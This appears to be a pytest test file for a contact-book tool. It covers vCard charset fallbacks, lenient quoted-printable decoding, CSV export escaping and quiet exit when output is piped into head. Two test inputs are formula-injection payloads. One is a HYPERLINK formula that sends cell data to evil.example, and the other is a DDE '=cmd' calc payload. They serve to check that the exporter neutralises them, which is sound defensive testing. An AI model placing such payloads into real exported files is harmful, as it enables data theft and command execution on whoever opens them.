"""Contact files from the real world: unusable charsets, malformed quoted-printable,
formula cells in CSV exports, and output piped into a reader that stops early."""

from __future__ import annotations

import csv
import io
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from presskit.contacts.cli import main
from presskit.contacts.csvio import write_csv
from presskit.contacts.db import ContactBook, book_path
from presskit.contacts.files import export_contacts, import_files, read_contact_file
from presskit.contacts.model import BookContact, ImportItem, Phone
from presskit.contacts.vcard import decode_quoted_printable, read_vcards
from tests.presskit.contacts.conftest import db_rows

HYPERLINK = '+1+HYPERLINK("http://evil.example/steal?c="&A1,"Click me")'


def _card(*lines: bytes) -> bytes:
    return b"\r\n".join([b"BEGIN:VCARD", b"VERSION:2.1", *lines, b"END:VCARD", b""])


# -- charsets ---------------------------------------------------------------------------------
def test_unknown_charset_card_is_imported_with_a_warning_naming_the_card(
        capsys: pytest.CaptureFixture[str], corpus: Path, isolated_data_dir: Path) -> None:
    # Card 1 of this old phone's export says CHARSET=punycode on its FN, ORG and TITLE.
    code = main(["import", str(corpus / "old_phone_2.1.vcf")])
    out, err = capsys.readouterr()
    assert code == 0, err
    assert out.splitlines()[0] == (
        "3 imported, 0 merged (same person), 0 possible duplicates kept separate, 0 skipped")
    assert err == ("presskit: warning: old_phone_2.1.vcf card 1: FN, ORG, TITLE: unknown "
                   "character set 'punycode', read as UTF-8\n")
    rows = db_rows(isolated_data_dir / "contacts.sqlite3")
    assert set(rows) == {"Jürgen Müller", "Пётр Смирнов", "Marta Kowalska"}
    juergen = rows["Jürgen Müller"]
    assert (juergen["role"], juergen["organization"]) == ("Chef vom Dienst", "Stadtanzeiger Köln")
    assert juergen["phones"] == [("mobile", "+49 171 5550123")]


@pytest.mark.parametrize("charset", [b"punycode", b"idna", b"rot13", b"base64", b"x-nonsense",
                                     b"unicode-escape"])
def test_unusable_charsets_are_read_as_utf8(charset: bytes) -> None:
    items = read_vcards(_card(b"FN;CHARSET=" + charset + b":Chef vom Dienst",
                              b"ORG;CHARSET=" + charset + ":Ørsted Medier".encode(),
                              b"TITLE;CHARSET=UTF-8:Redakt\xc3\xb8r"), "p.vcf")
    assert [i.error for i in items] == [None]
    c = items[0].contact
    assert c is not None
    assert (c.display_name, c.organization, c.role) == (
        "Chef vom Dienst", "Ørsted Medier", "Redaktør")
    assert items[0].warnings == [f"FN, ORG: unknown character set {charset.decode()!r}, "
                                 "read as UTF-8"]


def test_broken_utf8_keeps_its_good_characters() -> None:
    items = read_vcards(_card(b"FN;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:=D0=9F=D1=91=D1=82="
                              b"\r\n=D1=80 =FF=D0=A1=D0=BC=D0=B8=D1=80=D0=BD=D0=BE=D0=B2",
                              b"NOTE;CHARSET=x-weird:Ren\xe9 appelle le matin"), "p.vcf")
    c = items[0].contact
    assert c is not None
    assert c.display_name == "Пётр \ufffdСмирнов"
    # Nothing in the note is UTF-8: it is a legacy encoding, read as Windows-1252.
    assert c.notes == "René appelle le matin"
    assert items[0].warnings == [
        "FN: not valid UTF-8, unreadable bytes replaced",
        "NOTE: unknown character set 'x-weird', read as Windows-1252"]


# -- quoted-printable -------------------------------------------------------------------------
@pytest.mark.parametrize(("raw", "decoded"), [
    (b"=D0=9F=D1=80=D0=B5=D1=81=D1=81", "Пресс".encode()),
    (b"==D0=9F=D1=80", "Пр".encode()),  # the stray "=" is a broken soft break
    (b"=D0=9F==D1=80=d0=b5", "Пре".encode()),  # lower-case escapes too
    (b"a = b, 2+2=4", b"a = b, 2+2=4"),  # an "=" that is no escape stays as typed
    (b"===D0=9F", "=П".encode()),
    (b"line=\r\nnext=", b"linenext"),  # soft line breaks, one at the very end
    (b"=E9t=E9", b"\xe9t\xe9"),
])
def test_lenient_quoted_printable(raw: bytes, decoded: bytes) -> None:
    assert decode_quoted_printable(raw) == decoded


def test_malformed_quoted_printable_keeps_cyrillic(corpus: Path, book: ContactBook) -> None:
    # Card 2 of the old phone's export: its organization reads "…=D0=B0 ==D0=BC=D1=8D…",
    # a stray "=" before "=D0" (card 1 has the bad charset, tested above).
    card = b"BEGIN:VCARD" + (corpus / "old_phone_2.1.vcf").read_bytes().split(b"BEGIN:VCARD")[2]
    assert b"==D0=BC" in card
    report = book.import_items(read_vcards(card, "old_phone_2.1.vcf"))
    assert (report.imported, report.warnings) == (1, [])
    petr = db_rows(book.path)["Пётр Смирнов"]
    assert petr["organization"] == "Пресс-служба мэрии"
    assert (petr["given"], petr["family"], petr["role"]) == ("Пётр", "Смирнов", "Пресс-секретарь")


# -- CSV export ------------------------------------------------------------------------------
def test_csv_export_neutralises_every_formula_cell(book: ContactBook, tmp_path: Path) -> None:
    book.add(BookContact(display_name="Dana Whitfield", given_name="Dana",
                         family_name="Whitfield", role=HYPERLINK, organization="-2+3",
                         phones=[Phone("+1 (212) 555-0123", "work"),
                                 Phone("+1 212.555.0199", "mobile"),
                                 Phone("+1+1", "out-of-hours"), Phone("+ 44 20", "other")],
                         emails=["dana@wire.example"], notes="=cmd|' /C calc'!A0"))
    book.add(BookContact(display_name="@SUM(1+1)", given_name="=1+1", family_name="'=x",
                         phones=[Phone("+44 20 7946 0958", "work")]))
    path = tmp_path / "out.csv"
    export_contacts(book, path)
    data = path.read_bytes()
    assert HYPERLINK.encode() not in data.replace(b"'" + HYPERLINK.encode(), b"")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    dana = next(r for r in rows if r["Given Name"] == "Dana")
    assert dana["Role"] == "'" + HYPERLINK
    assert dana["Organization"] == "'-2+3"
    assert dana["Work Phone"] == "+1 (212) 555-0123"  # plain phone numbers stay as they are
    assert dana["Mobile Phone"] == "+1 212.555.0199"
    assert dana["Out-of-hours Phone"] == "'+1+1"  # a spreadsheet would add these up
    assert dana["Other Phone"] == "'+ 44 20"
    assert dana["Notes"] == "'=cmd|' /C calc'!A0"
    other = next(r for r in rows if r["Work Phone"] == "+44 20 7946 0958")
    assert (other["Display Name"], other["Given Name"], other["Family Name"]) == (
        "'@SUM(1+1)", "'=1+1", "''=x")
    for row in rows:
        for value in row.values():
            assert not value or (value[0] not in "=@-\t\r" and (
                value[0] != "+" or all(ch in "+0123456789 .-()" for ch in value))), value


def test_cells_starting_with_tab_or_cr_are_neutralised() -> None:
    # The book strips such whitespace; contacts handed straight to the writer may have it.
    text = write_csv([BookContact(display_name="\t=1+1", role="\r=2+2", notes="\t")])
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    assert (row["Display Name"], row["Role"], row["Notes"]) == ("'\t=1+1", "'\r=2+2", "'\t")


def test_neutralised_csv_reads_back_as_typed(book: ContactBook, tmp_path: Path,
                                             isolated_data_dir: Path) -> None:
    book.add(BookContact(display_name="Dana Whitfield", role=HYPERLINK, organization="-2+3",
                         phones=[Phone("+1+1", "work")], emails=["dana@wire.example"]))
    path = tmp_path / "out.csv"
    export_contacts(book, path)
    other = ContactBook(tmp_path / "other" / "contacts.sqlite3")
    try:
        import_files(other, [path])
        row = db_rows(other.path)["Dana Whitfield"]
    finally:
        other.close()
    assert (row["role"], row["organization"], row["phones"]) == (
        HYPERLINK, "-2+3", [("work", "+1+1")])


# -- output into a pipe whose reader stops -----------------------------------------------------
def _fill(data_dir: Path, n: int = 3000) -> None:
    """Enough contacts that `list` and `export -` write far more than a pipe holds (64 KiB)."""
    with ContactBook(book_path(data_dir)) as book:
        book.import_items([ImportItem(f"row {i}", BookContact(
            given_name="Person", family_name=f"{i:05d}", organization="Wire Service Example",
            emails=[f"person{i:05d}@wire.example"])) for i in range(n)])


def _into_head(*args: str, data: Path) -> tuple[int, bytes, bytes]:
    """``presskit ARGS | head -1`` through a real pipe: (presskit's status, head's output,
    presskit's stderr)."""
    env = {**os.environ, "PRESSKIT_DATA_DIR": str(data)}
    writer = subprocess.Popen([sys.executable, "-m", "presskit", *args], env=env,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert writer.stdout is not None and writer.stderr is not None
    head = subprocess.Popen(["head", "-1"], stdin=writer.stdout, stdout=subprocess.PIPE)
    writer.stdout.close()  # head alone reads the pipe now
    first, _ = head.communicate(timeout=60)
    err = writer.stderr.read()
    return writer.wait(timeout=60), first, err


SIGPIPE = getattr(signal, "SIGPIPE", 13)
QUIET = (0, 128 + SIGPIPE, -SIGPIPE)  # exit 0, or what a command ended by SIGPIPE reports


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX pipes and head(1)")
def test_list_into_head_ends_quietly(isolated_data_dir: Path) -> None:
    _fill(isolated_data_dir)
    status, first, err = _into_head("contacts", "list", data=isolated_data_dir)
    assert first == b"Person 00000\t\tWire Service Example\t\tperson00000@wire.example\n"
    assert err == b""
    assert status in QUIET


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX pipes and head(1)")
def test_export_to_stdout_into_head_ends_quietly(isolated_data_dir: Path) -> None:
    _fill(isolated_data_dir)
    status, first, err = _into_head("contacts", "export", "-", data=isolated_data_dir)
    assert (first, err) == (b"BEGIN:VCARD\r\n", b"")
    assert status in QUIET
    status, first, err = _into_head("contacts", "export", "-", "--format", "csv",
                                    data=isolated_data_dir)
    assert first.startswith(b"\xef\xbb\xbfDisplay Name,Given Name,") and err == b""
    assert status in QUIET


def test_export_to_stdout_writes_what_the_file_would_hold(
        capsysbinary: pytest.CaptureFixture[bytes], corpus: Path, tmp_path: Path) -> None:
    assert main(["import", str(corpus / "apple_3.0.vcf")]) == 0
    for fmt, name in (("vcard", "book.vcf"), ("csv", "book.csv")):
        capsysbinary.readouterr()
        assert main(["export", str(tmp_path / name)]) == 0
        capsysbinary.readouterr()
        assert main(["export", "-", "--format", fmt]) == 0
        out, err = capsysbinary.readouterr()
        assert (out, err) == ((tmp_path / name).read_bytes(), b"")
    items = read_contact_file(tmp_path / "book.vcf")
    assert sorted(i.contact.name() for i in items if i.contact) == [
        "Camille Rousseau", "Daniel Ørsted"]
